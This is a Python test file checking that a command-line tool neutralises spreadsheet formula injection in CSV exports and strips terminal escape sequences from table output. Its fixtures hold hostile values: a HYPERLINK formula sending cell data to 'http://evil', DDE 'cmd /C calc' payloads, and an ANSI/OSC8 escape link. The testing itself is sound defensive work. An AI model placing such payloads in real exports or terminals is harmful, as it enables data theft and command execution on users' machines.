"""G10: text from tenants' records in the command line's output is data: CSV cells a
spreadsheet would run as formulas are neutralised, and table output keeps no control
characters."""

from __future__ import annotations

import csv
import io
import json

HOSTILE_LABELS = {
    1: '=HYPERLINK("http://evil/?d="&A1,"Klikk")',
    2: "+47 22 33 44 55",
    3: "-2+3+cmd|' /C calc'!A0",
    4: "@SUM(1+1)*cmd|' /C calc'!A0",
    5: "\t=1+1",
    6: "\r=1+1",
    7: "P-11 Vanlig prosjekt",
}


def _insert(workspace) -> None:
    workspace.add_offline_tenant("acme")
    with workspace.db() as conn:
        for svenn_id, label in HOSTILE_LABELS.items():
            conn.execute(
                """INSERT INTO sync.errors VALUES ('acme', 'PROJECT_MISSING_START_DATE', 'error',
                   'project', ?, NULL, ?, 'melding', NULL, now(), now(), NULL, 'run-1')""",
                [svenn_id, label],
            )


def test_G10_csv_formula_cells_neutralised(workspace):
    _insert(workspace)

    result = workspace.cli("errors", "--tenant", "acme", "--format", "csv")

    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    labels = {int(r["svenn_id"]): r["record_label"] for r in rows}
    for svenn_id, label in HOSTILE_LABELS.items():
        expected = label if svenn_id == 7 else "'" + label
        # (the console's output is read with universal newlines: a CR arrives as LF)
        assert labels[svenn_id] == expected.replace("\r", "\n")
    # JSON is for programs: the text stays exactly as it is
    as_json = json.loads(workspace.cli("errors", "--tenant", "acme", "--format", "json").stdout)
    assert {r["svenn_id"]: r["record_label"] for r in as_json} == HOSTILE_LABELS


def test_G10_table_output_keeps_records_text_on_its_row(workspace):
    workspace.add_offline_tenant("acme")
    with workspace.db() as conn:
        conn.execute(
            """INSERT INTO sync.errors VALUES ('acme', 'PROJECT_MISSING_START_DATE', 'error',
               'project', 1, NULL, ?, 'melding', NULL, now(), now(), NULL, 'run-1')""",
            ["Rød\x1b[31m tekst\x1b]8;;http://evil\x1b\\lenke\r\nny linje"],
        )

    result = workspace.cli("errors", "--tenant", "acme")

    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\r" not in result.stdout
    assert len(result.stdout.splitlines()) == 3  # header, rule, one row
